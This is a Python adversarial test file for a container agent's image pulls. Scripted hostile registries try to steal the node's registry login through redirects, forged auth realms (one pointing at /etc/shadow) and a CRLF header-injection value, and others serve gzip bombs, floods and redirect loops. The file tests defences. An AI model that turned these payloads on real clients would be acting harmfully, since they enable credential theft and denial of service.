# SPDX-License-Identifier: Apache-2.0
"""Registries that want a login that is not for them, or that send without end."""
import base64
import contextlib
import gzip
import json

from attack import attack, breach_if
from registry import MadeImage, digest_of, layer_of
from scripted_registry import ScriptedRegistry

LOGIN = base64.b64encode(b"jane:not-for-thieves").decode()


@contextlib.contextmanager
def serving(*registries):
    try:
        yield
    finally:
        for registry in registries:
            registry.stop()


@contextlib.contextmanager
def login_of_the_node(kit, host):
    config = kit.node.top / "root/config.json"
    config.write_text(json.dumps({"auths": {host: {"auth": LOGIN}}}))
    try:
        yield
    finally:
        config.unlink()


def pull(kit, name, seconds=90):
    return kit.node.ctl("image", "pull", name, check=False, timeout=seconds)


@attack("IM-03")
def registries_that_steal_logins(kit):
    """The node has a login for one registry, and this one sends its clients elsewhere."""
    image = MadeImage([layer_of({"a": b"1"})])
    greedy = {"WWW-Authenticate": 'Basic realm="me too"'}
    # An address that only the node itself reaches, as a cloud's metadata service is.
    thief = ScriptedRegistry({"app:1": image}, lambda handler: handler.send(401, b"", greedy) or True, address="127.0.0.2")
    ways = {
        "redirect": lambda h: h.send(307, b"", {"Location": thief.url + h.path}),
        "redirect of blobs": lambda h: "/blobs/" in h.path and (h.send(307, b"", {"Location": thief.url + h.path}) or True),
        "realm": lambda h: h.send(401, b"", {"WWW-Authenticate": f'Bearer realm="{thief.url}/token",service="x"'}),
        "realm in two parts": lambda h: h.send(
            401, b"", {"WWW-Authenticate": f'Basic realm="x", Bearer realm="{thief.url}/token",scope="repository:app:pull"'}),
        "realm with a name in it": lambda h: h.send(
            401, b"", {"WWW-Authenticate": f'Bearer realm="http://127.0.0.1@{thief.name}/token"'}),
        "realm of a file": lambda h: h.send(401, b"", {"WWW-Authenticate": 'Bearer realm="file:///etc/shadow"'}),
        "next page": lambda h: h.send(302, b"", {"Location": f"//{thief.name}{h.path}"}),
        "header in a header": lambda h: h.send(307, b"", {"Location": f"{thief.url}/%0d%0aAuthorization:%20x{h.path}"}),
    }
    for what, way in ways.items():
        first = []

        def script(handler, way=way, first=first):
            # It is asked for the login once, so that there is something to steal.
            if handler.headers.get("Authorization") is None and not first:
                first.append(handler)
                handler.send(401, b"", {"WWW-Authenticate": 'Basic realm="here"'})
                return True
            return way(handler) is not False
        registry = ScriptedRegistry({"app:1": image}, script)
        with serving(registry), login_of_the_node(kit, registry.name):
            done = pull(kit, f"{registry.name}/app:1")
        breach_if(done.returncode == 0, f"{what}: it was pulled")
        breach_if(LOGIN in done.stderr or "not-for-thieves" in done.stderr, f"{what}: the login is in the error")
    stolen = [request for request in thief.requests if request[2]]
    thief.stop()
    breach_if(stolen, f"logins that were sent on: {stolen}")
    breach_if("not-for-thieves" in (kit.node.top / "agent.log").read_text(), "the login is in the agent's log")
    return f"{len(ways)} ways, {len(thief.requests)} requests reached the thief, none with a login"


@attack("IM-04")
def registries_that_send_without_end(kit):
    """Pulled by the real agent; the oracle asks what it cost."""
    zeros = gzip.compress(bytes(64 << 20))
    bomb = MadeImage([layer_of({"a": b"1"})], packing=lambda _: zeros * 64)  # 4 GiB of no tar

    def flood(handler):
        handler.drip(b"{" + b" " * kit.size(16 << 20, 512 << 20), 1 << 20, 0)
        return True

    def headers(handler):
        handler.send(200, b"{}", {f"X-{i}": "x" * 1000 for i in range(200)})
        return True

    def circles(handler):
        handler.send(307, b"", {"Location": handler.path + "x"})
        return True

    def token(handler):
        if handler.path.startswith("/token"):
            return flood(handler)
        where = f"http://{handler.headers['Host']}/token"
        handler.send(401, b"", {"WWW-Authenticate": f'Bearer realm="{where}",service="x"'})
        return True

    def long_layer(handler):
        if digest_of(bomb.layers[0]) not in handler.path:
            return False
        handler.send(200, bomb.layers[0] + b"x" * (1 << 20), length="")
        return True
    for what, script in {"manifest": flood, "headers": headers, "circles": circles, "token": token, "layer": long_layer,
                         "bomb": lambda handler: False}.items():
        registry = ScriptedRegistry({"app:1": bomb}, script)
        with serving(registry):
            breach_if(pull(kit, f"{registry.name}/app:1").returncode == 0, f"{what}: it was pulled")
    left = list((kit.node.top / "root/images/ingest").iterdir())
    breach_if(left, f"left behind: {left}")
    return "6 kinds"
